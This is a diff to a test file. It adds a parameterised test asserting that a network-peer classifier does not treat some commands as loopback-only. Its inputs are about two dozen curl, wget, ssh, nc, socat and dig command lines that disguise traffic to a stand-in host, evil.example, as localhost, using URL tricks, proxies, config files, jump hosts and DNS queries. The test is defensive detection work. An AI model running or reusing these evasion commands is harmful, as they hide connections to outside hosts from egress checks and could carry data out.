@@ -50,6 +50,37 @@ describe('the peers a finding names', () => {
     expect([...seen!].sort()).toEqual([...peers].sort());
   });
 
+  it.each([
+    'curl -K /tmp/x http://localhost/',
+    'wget --config=/tmp/x http://localhost/',
+    'ssh -F /tmp/x localhost',
+    'scp -F /tmp/x a localhost:b',
+    'curl --connect-to ::evil.example:80 http://localhost/',
+    'curl --preproxy socks5://evil.example http://localhost/',
+    'curl --doh-url https://evil.example/ http://localhost/',
+    'curl --expand-url http://localhost{{x}}/',
+    'curl --ipfs-gateway http://evil.example ipfs://localhost',
+    'curl http://localhost/ --next http://evil.example/',
+    'curl http://localhost@evil.example/',
+    'curl http://evil.example#@localhost/',
+    "curl 'http://{localhost,evil.example}/'",
+    'curl http://localhost.evil.example/',
+    'wget -i /tmp/list http://localhost/',
+    'wget -e http_proxy=evil.example:80 http://localhost/',
+    'nc -x evil.example:80 localhost 22',
+    'ncat --proxy evil.example localhost 80',
+    'socat TCP:localhost:80 TCP:evil.example:80',
+    "ssh -o ProxyCommand='nc evil.example 22' localhost",
+    'ssh -J evil.example localhost',
+    'ssh -L 80:evil.example:80 localhost',
+    'proxychains curl http://localhost/',
+    'dig @127.0.0.1 data.evil.example',
+    'xargs curl http://localhost/',
+  ])('are not loopback only: %s', (run) => {
+    const classes = (peersOf(exampleEvent({ run })) ?? []).map((peer) => peer.class);
+    expect(classes.length === 0 || classes.some((one) => one !== 'loopback')).toBe(true);
+  });
+
   it('are not told where no tool was read', () => {
     expect(peersOf(exampleEvent({ run: 'ls /' }))).toBeUndefined();
   });
